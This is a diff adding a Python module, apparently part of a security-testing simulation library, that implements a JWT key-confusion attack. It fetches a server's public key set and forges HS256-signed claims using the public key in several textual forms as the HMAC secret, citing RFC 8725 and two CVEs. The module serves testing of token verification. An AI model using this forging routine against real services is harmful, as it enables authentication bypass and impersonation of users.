@@ -1,0 +1,32 @@
+"""A public key is used as the secret of HS256."""
+
+import json
+from typing import ClassVar
+
+from simlib.attacks.base import Candidate, Inapplicable, OnTokens, Preparation
+from simlib.attacks.rewriting import rewritten
+from simlib.scenario.effects import Context, Flow
+from simlib.tokens.forging import hmac_signed, public_pem
+
+
+class KeyConfusion(OnTokens):
+    """The key set is public, so whoever takes its keys for secrets believes everybody."""
+
+    name: ClassVar[str] = "key_confusion"
+    summary: ClassVar[str] = "forged claims signed by HS256 with the server's public key"
+    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.1; CVE-2016-10555, CVE-2022-29217"
+    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
+
+    def prepare(self, ctx: Context) -> Flow[Preparation]:
+        """Fetch the key set and sign with what is in it."""
+        made = yield from rewritten(ctx, self.loot)
+        if isinstance(made, Inapplicable):
+            return made
+        if made.jwk is None:
+            return Inapplicable("the key set has no public key")
+        pem = public_pem(made.jwk)
+        texts = {"PEM": pem, "PEM without its last line break": pem.rstrip(), "JWK": json.dumps(made.jwk).encode()}
+        return tuple(
+            Candidate(f"secret: {name}", made.seal(hmac_signed(made.claims, made.kid, text, made.typ)))
+            for name, text in texts.items()
+        )
